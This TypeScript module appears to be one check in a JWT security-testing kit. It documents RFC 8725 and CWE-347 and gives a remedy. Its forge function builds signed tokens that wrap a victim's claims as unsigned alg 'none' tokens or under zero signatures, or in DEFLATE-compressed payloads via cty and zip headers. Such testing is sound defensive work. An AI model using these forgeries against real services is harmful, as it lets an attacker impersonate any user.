import { deflateRawSync, deflateSync } from 'node:zlib'
import { assemble, mint, readToken } from '../../kit/forge-token.ts'
import { tokenAttack } from '../../kit/token-attack.ts'

export default tokenAttack({
  id: 'token/hdr-zip-cty-nested',
  rows: ['token.hdr-zip-cty-nested'],
  title: 'A signed token around an unsigned one, and a signed token with a compressed payload',
  requirement: 'RFC 8725 section 3.3: all cryptographic operations are validated, those of a nested token as well',
  impact: 'What is inside is believed because the outside was signed: a wrapped token names any user.',
  remedy: 'Refuse the headers cty and zip; where tokens are nested, verify each layer with its own key.',
  severity: 'high',
  cwe: ['CWE-347'],
  references: ['RFC 8725 section 3.3', 'RFC 8725 section 3.6'],
  provenBy: 'nested-none',
  needs: ['signingKey'],
  plainer({ signingKey, attacker }) {
    const { header } = readToken(attacker.token)
    return ['no JSON', '"word"'].map((payload) => ({
      attack: 'token/json-payload-type',
      name: `a payload that is ${payload}`,
      token: mint(signingKey, header, payload),
    }))
  },
  forge({ signingKey, attacker, victim }) {
    const { header } = readToken(attacker.token)
    const { header: other, payload } = readToken(victim.token)
    const unsigned = assemble({ ...other, alg: 'none' }, payload, '')
    const json = JSON.stringify(payload)
    const shapes: [name: string, more: object, payload: string | Buffer][] = [
      ['an unsigned token in it, cty JWT', { cty: 'JWT' }, unsigned],
      ['an unsigned token in it, cty jwt', { cty: 'jwt' }, unsigned],
      ['an unsigned token in it, nothing said', {}, unsigned],
      ['an unsigned token in it as JSON text, cty JWT', { cty: 'JWT' }, JSON.stringify(unsigned)],
      ['a token under a signature of zeros in it', { cty: 'JWT' }, assemble(other, payload, Buffer.alloc(32))],
      ['claims in raw DEFLATE, zip DEF', { zip: 'DEF' }, deflateRawSync(json)],
      ['claims in zlib format, zip DEF', { zip: 'DEF' }, deflateSync(json)],
    ]
    return shapes.map(([name, more, inner]) => ({ name, token: mint(signingKey, { ...header, ...more }, inner) }))
  },
})
